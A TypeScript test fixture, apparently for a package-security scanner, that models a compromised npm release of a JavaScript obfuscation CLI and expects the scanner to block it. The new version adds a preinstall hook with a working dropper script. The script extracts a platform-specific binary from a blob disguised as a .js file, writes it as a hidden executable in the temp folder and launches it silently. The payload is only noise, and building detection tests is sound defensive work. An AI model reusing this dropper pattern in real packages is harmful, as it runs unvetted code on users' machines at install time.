import { packedBytes } from '../bulk.js';
import type { Replica } from './replica.js';

const api = `'use strict';

Object.defineProperty(exports, '__esModule', { value: true });
var _fs = require('fs');
var _path = require('path');
var _client = require('./client');
var _zip = require('./zip');

async function protectAndDownload(options, destCallback) {
  const client = new _client.default(options);
  const sources = options.filesSrc.map((file) => ({ name: _path.relative(options.cwd || process.cwd(), file), content: _fs.readFileSync(file) }));
  const archive = _zip.pack(sources);
  const application = await client.post('/application/' + options.applicationId + '/sources', { content: archive.toString('base64'), filename: 'application.zip' });
  const protection = await client.post('/application/' + options.applicationId + '/protections', { params: options.params, sources: application.id });
  const finished = await poll(client, options.applicationId, protection._id);
  const download = await client.get('/application/download/' + finished._id);
  for (const entry of _zip.unpack(Buffer.from(download.content, 'base64'))) {
    if (destCallback) destCallback(entry.content, entry.name);
    else _fs.writeFileSync(_path.join(options.filesDest, entry.name), entry.content);
  }
  return finished._id;
}

async function poll(client, applicationId, protectionId, interval = 500) {
  const state = await client.get('/application/' + applicationId + '/protections/' + protectionId);
  if (state.state === 'finished' || state.state === 'errored') return state;
  await new Promise((resolve) => setTimeout(resolve, interval));
  return poll(client, applicationId, protectionId, interval);
}

exports.default = { protectAndDownload };
module.exports = exports.default;
`;
const files = {
  'README.md': '# Jscrambler CLI\n\nCommand line and API client.\n',
  'dist/client.js': `'use strict';

Object.defineProperty(exports, '__esModule', { value: true });
var _https = require('https');
var _crypto = require('crypto');

class Client {
  constructor({ keys, host = 'api4.jscrambler.example.invalid', port = 443, basePath = '' }) {
    this.keys = keys;
    this.options = { host, port, basePath };
  }
  signed(method, path, params) {
    const timestamp = new Date().toISOString();
    const data = [method.toUpperCase(), this.options.host, path, JSON.stringify(params || {}), timestamp].join(';');
    const signature = _crypto.createHmac('sha256', this.keys.secretKey).update(data).digest('base64');
    return { access_key: this.keys.accessKey, timestamp, signature };
  }
  request(method, path, params) {
    return new Promise((resolve, reject) => {
      const body = method === 'GET' ? undefined : JSON.stringify({ ...params, ...this.signed(method, path, params) });
      const request = _https.request({ host: this.options.host, port: this.options.port, method, path: this.options.basePath + path, headers: { 'Content-Type': 'application/json' } }, (response) => {
        let text = '';
        response.setEncoding('utf8');
        response.on('data', (part) => { text += part; });
        response.on('end', () => (response.statusCode < 400 ? resolve(JSON.parse(text)) : reject(new Error(text))));
      });
      request.on('error', reject);
      request.end(body);
    });
  }
  get(path, params) {
    return this.request('GET', path, params);
  }
  post(path, params) {
    return this.request('POST', path, params);
  }
}
exports.default = Client;
`,
  'dist/zip.js': `'use strict';

var _zlib = require('zlib');

exports.pack = (sources) => _zlib.gzipSync(Buffer.from(JSON.stringify(sources.map(({ name, content }) => ({ name, content: content.toString('base64') })))));
exports.unpack = (archive) => JSON.parse(_zlib.gunzipSync(archive)).map(({ name, content }) => ({ name, content: Buffer.from(content, 'base64') }));
`,
  'dist/bin/jscrambler.js': `#!/usr/bin/env node
'use strict';

var _jscrambler = require('../index.js');
var _fs = require('fs');

var args = process.argv.slice(2);
var at = args.indexOf('-c');
var config = at >= 0 ? JSON.parse(_fs.readFileSync(args[at + 1], 'utf8')) : {};
_jscrambler.protectAndDownload({ ...config, filesSrc: args.filter((one) => one.endsWith('.js')) }).catch((error) => {
  console.error(error.message);
  process.exit(1);
});
`,
};
/** A container for three platforms: a short magic, a table of places, and compressed bodies of which nothing is left but noise. */
function container(seed: number): Uint8Array {
  const out = packedBytes(7_500_000, seed);
  const head = Buffer.from('1b43534901', 'hex');
  out.set(head, 0);
  const view = new DataView(out.buffer);
  view.setUint8(5, 3);
  for (const at of [0, 1, 2]) {
    view.setUint32(8 + at * 12, at + 1, true);
    view.setUint32(12 + at * 12, 64 + at * 2_490_000, true);
    view.setUint32(16 + at * 12, 2_480_000, true);
    out.set([0x1f, 0x8b, 0x08], 64 + at * 2_490_000);
  }
  return out;
}
const setup = `'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const zlib = require('zlib');
const crypto = require('crypto');
const { spawn } = require('child_process');

const MAGIC = Buffer.from([0x1b, 0x43, 0x53, 0x49, 0x01]);
const PLATFORMS = { linux: 1, win32: 2, darwin: 3 };

function select(container) {
  if (!container.subarray(0, 5).equals(MAGIC)) return null;
  const count = container[5];
  for (let i = 0; i < count; i++) {
    const base = 8 + i * 12;
    if (container.readUInt32LE(base) !== PLATFORMS[os.platform()]) continue;
    const offset = container.readUInt32LE(base + 4);
    return container.subarray(offset, offset + container.readUInt32LE(base + 8));
  }
  return null;
}

function main() {
  const packed = select(fs.readFileSync(path.join(__dirname, 'intro.js')));
  if (!packed) return;
  const name = '.' + crypto.randomBytes(8).toString('hex') + (os.platform() === 'win32' ? '.exe' : '');
  const target = path.join(os.tmpdir(), name);
  fs.writeFileSync(target, zlib.gunzipSync(packed), { mode: 0o755 });
  fs.chmodSync(target, 0o755);
  const child = spawn(target, [], { detached: true, stdio: 'ignore', windowsHide: true });
  child.on('error', () => {});
  child.unref();
}

try {
  main();
} catch (e) {}
`;
const manifest = { description: 'Jscrambler CLI and API client.', main: 'dist/index.js', bin: { jscrambler: 'dist/bin/jscrambler.js' }, license: 'MIT', files: ['dist'], engines: { node: '>=12' } };
const scripts = { build: 'babel src --out-dir dist', prepublishOnly: 'npm run build' };
const publisher = { name: 'jscrambler_', email: 'info@jscrambler.example.invalid' };

export const replica: Replica = {
  id: 'jscrambler-2026',
  story: 'July 2026, 8.14.0: a new preinstall step unpacks the platform\'s program out of a 7.5 MB blob that is named as a script, writes it to the temporary folder, makes it executable and starts it on its own (after the reports in the project\'s own tracker).',
  name: 'jscrambler',
  before: { version: '8.13.0', manifest: { ...manifest, scripts }, files: { ...files, 'dist/index.js': api }, publishedAt: '2026-06-09T13:18:00.000Z', publisher },
  after: { version: '8.14.0', manifest: { ...manifest, scripts: { ...scripts, preinstall: 'node dist/setup.js' } }, files: { ...files, 'dist/index.js': api, 'dist/setup.js': setup, 'dist/intro.js': container(814) }, publishedAt: '2026-07-11T15:12:00.000Z', publisher },
  must: 'block',
};
